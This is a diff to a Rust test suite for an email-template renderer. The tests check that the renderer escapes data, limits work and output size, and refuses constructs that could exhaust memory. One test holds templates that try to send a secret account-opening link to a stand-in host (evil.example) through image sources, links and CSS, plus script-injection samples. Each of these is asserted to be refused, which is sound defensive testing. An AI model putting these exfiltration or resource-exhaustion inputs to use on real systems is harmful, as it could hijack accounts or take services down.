@@ -181,8 +181,10 @@ fn data_is_escaped_in_html_only() {
         "<p>{% autoescape false %}{{ name }}{% endautoescape %}</p>",
         "{% set who = name %}<p>{{ who }}</p>",
         "<p>{% set who %}{{ name }}{% endset %}{{ who }}</p>",
-        "<p>{{ [name]|join }}</p>",
+        "<p>{{ name|default('') }}</p>",
+        "<p title=\"{{ name }}\">x</p>",
         "{% set preheader = name %}<p>x</p>",
+        "{% set preheader %}{{ name }}{% endset %}<p>x</p>",
     ] {
         let rendered = own(Part::Html, source, &data).unwrap();
         assert!(rendered.html.contains("&lt;script&gt;"), "{source}: {}", rendered.html);
@@ -300,13 +302,80 @@ fn nothing_can_be_included() {
 
 #[test]
 fn work_and_size_are_limited() {
-    let endless = "{% for a in range(99999) %}{% for b in range(99999) %}x{% endfor %}{% endfor %}";
-    assert!(refusal(endless).contains("too much work"), "{}", refusal(endless));
-    assert!(refusal("{{ 'x' * 100000000 }}").contains("too much work"));
-    assert!(refusal("{{ 'x' * 300000 }}").contains("longer than 256 KiB"));
-    assert!(html("{{ 'x' * 200000 }}").is_ok());
-    let deep = format!("{{{{ {}1{} }}}}", "(".repeat(20_000), ")".repeat(20_000));
-    assert!(refusal(&deep).contains("cannot be read"));
+    let digits = "[0, 1, 2, 3, 4, 5, 6, 7, 8, 9]";
+    let loops = |depth: usize, inside: &str| {
+        let begin: String = (0..depth).map(|at| format!("{{% for d{at} in {digits} %}}")).collect();
+        format!("{begin}{inside}{}", "{% endfor %}".repeat(depth))
+    };
+    assert!(refusal(&loops(6, "x")).contains("too much work"));
+    let long = "x".repeat(3_000);
+    assert!(html(&loops(1, &long)).is_ok());
+    assert!(refusal(&loops(2, &long)).contains("longer than 256 KiB"));
+    // Doubled with each turn.
+    let doubled = "{% set a = 'xxxxxxxx' %}".to_owned() + &"{% set a = a ~ a %}".repeat(40);
+    assert!(refusal(&doubled).contains("too much work"));
+    let replaced = format!("{{{{ '{0}'|replace('x', '{0}') }}}}", "x".repeat(20_000));
+    assert!(refusal(&replaced).contains("too much work"));
+}
+
+/// What would end the process, or take all memory, before any limit for work is noticed.
+#[test]
+fn what_no_limit_would_stop_is_refused() {
+    for (source, what) in [
+        (format!("{{{{ {}1 }}}}", "- ".repeat(30_000)), "more than 100 words"),
+        (format!("{{{{ {}1 }}}}", "not ".repeat(15_000)), "more than 100 words"),
+        (format!("{{{{ name{} }}}}", ".a".repeat(30_000)), "more than 100 words"),
+        (format!("{{{{ name{} }}}}", "|trim".repeat(10_000)), "more than 100 words"),
+        (format!("{{{{ {}1{} }}}}", "(".repeat(20_000), ")".repeat(20_000)), "more than 100 words"),
+        (format!("{{% if name %}}{}{{% endif %}}", "{% elif name %}".repeat(4_000)), "more than 50 `elif`"),
+        ("{{ [1] * 100000000 ~ '' }}".to_owned(), "`*` does not exist"),
+        ("{{ 'x' * 100000000 }}".to_owned(), "`*` does not exist"),
+        ("{{ 9 ** 9 }}".to_owned(), "`**` does not exist"),
+        ("{{ name + name }}".to_owned(), "`+` does not exist"),
+        ("{% set a = [name, name] %}{{ a }}".to_owned(), "a list holds constants only"),
+        ("{% set a = [['x']] %}{{ a }}".to_owned(), "a list holds constants only"),
+        ("{% set a = (name, name) %}{{ a }}".to_owned(), "a comma stands only"),
+        ("{% set a = name, name %}{{ a }}".to_owned(), "a comma stands only"),
+        ("{% set a = {'b': name} %}{{ a }}".to_owned(), "maps do not exist"),
+        ("{{ button(name, address=url) }}".to_owned(), "have no names"),
+        ("{% for a in [1] recursive %}{{ loop([1]) }}{% endfor %}".to_owned(), "`recursive` does not exist"),
+        ("{{ range(9) }}".to_owned(), "range is unknown"),
+        ("{{ dict(a=1) }}".to_owned(), "have no names"),
+        ("{{ namespace() }}".to_owned(), "namespace is unknown"),
+        ("{{ [1, 2]|batch(1) }}".to_owned(), "filter batch"),
+    ] {
+        let refused = refusal(&source);
+        assert!(refused.contains(what), "{}: {refused}", source.chars().take(60).collect::<String>());
+    }
+    // Nested statements: the compiler's own limit.
+    let nested = "{% if name %}".repeat(3_000) + &"{% endif %}".repeat(3_000);
+    assert!(refusal(&nested).contains("cannot be read"));
+    let line = faults_of(Part::Text, "Hello,\n{{ name }}\n{{ 1 + 1 }}");
+    assert_eq!(line, ["line 3: `+` does not exist here: texts are joined with `~`: {{ 1 + 1 }}"]);
+}
+
+#[test]
+fn lists_and_functions_can_still_be_used() {
+    for (source, shown) in [
+        ("{% if lang in ['en', 'de'] %}<p>yes</p>{% endif %}", ">yes</p>"),
+        ("<p>{{ (name)[:3] }}</p>", ">Ada</p>"),
+        ("<p>{{ name|replace('A', 'O')|upper }}</p>", ">ODA LOVELACE</p>"),
+        ("<p>{{ 7 - 2 }}, {{ -1 }}, {{ 7 // 2 }}</p>", ">5, -1, 3</p>"),
+        ("{% for n in [1, 2] %}<p>{{ n }} {{ loop.index }}</p>{% endfor %}", ">2 2</p>"),
+        ("<p>{{ 'yes' if name is defined and not name is none else 'no' }}</p>", ">yes</p>"),
+        ("{% with who = name %}<p>{{ who|lower }}</p>{% endwith %}", ">ada lovelace</p>"),
+        ("<p>{% raw %}{{ [a] * 2 }}{% endraw %}{# 1 + 1 #}</p>", ">{{ [a] * 2 }}</p>"),
+        ("<p>[a + b] * {c}</p>", ">[a + b] * {c}</p>"),
+    ] {
+        let rendered = html(source).unwrap_or_else(|error| panic!("{source}: {error}"));
+        assert!(rendered.html.contains(shown), "{source}: {}", rendered.html);
+    }
+    assert!(refusal("<p>{{ brand.nobody|length }}</p>").contains("does not exist"));
+}
+
+/// What `check` says about a part of `verify`.
+fn faults_of(part: Part, source: &str) -> Vec<String> {
+    check(verify(), Lang::En, &with(part, source), &branding()).iter().map(Fault::detail).collect()
 }
 
 #[test]
@@ -338,6 +407,10 @@ fn faults_say_where_and_what() {
     }
     let script = fault(Part::Html, "<p>a</p><script>alert(1)</script>");
     assert_eq!(script.to_string(), "html, `<script>` cannot be used in a mail");
+    for open in ["<script>alert(1)</script>", "</div></body>", "<b>"] {
+        let preheader = fault(Part::Html, &format!("{{% set preheader %}}{open}{{% endset %}}<p>a</p>"));
+        assert!(preheader.what.starts_with("preheader: `<"), "{preheader}");
+    }
     let all = Override { subject: "{{ a }}".into(), text: "{{ b }}".into(), html: "{{ c }}".into() };
     assert_eq!(check(verify(), Lang::Ru, &all, &branding()).len(), 3);
 }
@@ -352,4 +425,55 @@ fn what_is_rendered_is_checked_each_time() {
     assert!(own(Part::Html, source, &data).unwrap_err().to_string().contains("`onclick` cannot be used"));
     data["name"] = json!("javascript:alert(1)");
     assert!(own(Part::Html, "<a href=\"{{ name }}\">a</a>", &data).is_err());
+}
+
+/// Whoever writes the text of an invitation must not get the link in it.
+#[test]
+fn a_template_does_not_get_the_link_that_opens_an_account() {
+    let data = example("verify");
+    let url = data["url"].as_str().unwrap();
+    for (part, source) in [
+        (Part::Html, "<p>x</p><img src=\"https://evil.example/?{{ url }}\" alt=\"\">"),
+        (Part::Html, "<p>x</p><img src=\"{{ url }}\" alt=\"\">"),
+        (Part::Html, "<a href=\"https://evil.example/?{{ url }}\">x</a>"),
+        (Part::Html, "<a href=\"{{ url }}/..\">x</a>"),
+        (Part::Html, "{{ button('x', 'https://evil.example/?' ~ url) }}"),
+        (Part::Html, "<p style=\"background: url({{ url }})\">x</p>"),
+        (Part::Html, "<p>evil.example/?{{ url }}</p>"),
+        (Part::Html, "{% set link %}{{ url }}{% endset %}<p>evil.example/?{{ link }}</p>"),
+        (Part::Html, "{% set preheader %}evil.example/?{{ url }}{% endset %}<p>x</p>"),
+        (Part::Text, "evil.example/?{{ url }}"),
+        (Part::Subject, "{{ url }}"),
+    ] {
+        let error = own(part, source, &data).expect_err(source).to_string();
+        assert!(error.contains("`url` opens an account"), "{source}: {error}");
+        let faults = faults_of(part, source);
+        assert!(faults.len() == 1 && faults[0].contains("`url` opens an account"), "{source}: {faults:?}");
+    }
+    // Nothing of the link can be taken out of it, and the footer is nobody's place for it.
+    let look = Branding { footer: "evil.example/?https://link.invalid/opens-an-account".to_owned(), ..branding() };
+    let over = with(Part::Html, "<p>{{ url|replace('https://', '')|upper }} {{ url[8:] }} {{ url|length }}</p>");
+    let rendered = render("verify", "en", &data, &look, Some(&over)).unwrap();
+    assert!(
+        !rendered.html.contains(&url[8..]) && !rendered.html.contains(&url[8..].to_uppercase()),
+        "{}",
+        rendered.html
+    );
+    assert_eq!(rendered.text.matches(url).count(), 1, "{}", rendered.text);
+    for source in
+        ["<p>{{ url }}</p>", "<p>Here: {{ url }}</p>", "<a href=\"{{ url }}\">x</a>", "<a href='{{ url }}'>x</a>"]
+    {
+        let rendered = own(Part::Html, source, &data).unwrap();
+        assert!(rendered.html.contains(url) && !rendered.html.contains("link.invalid"), "{source}: {}", rendered.html);
+    }
+    let mut strange = data.clone();
+    strange["url"] = json!("https://ai.example.com/?a=1&b='\"");
+    let rendered = own(Part::Html, "<a href=\"{{ url }}\">x</a>", &strange).unwrap();
+    assert!(rendered.html.contains("href=\"https://ai.example.com/?a=1&amp;b=&#39;&quot;\""), "{}", rendered.html);
+    // The links of other mails open pages that ask who it is.
+    let over = Override {
+        html: "<a href=\"{{ url }}?from=mail\">x</a>".to_owned(),
+        ..TemplateInfo::find("welcome").unwrap().built_in(Lang::En)
+    };
+    assert!(render("welcome", "en", &example("welcome"), &branding(), Some(&over)).is_ok());
 }
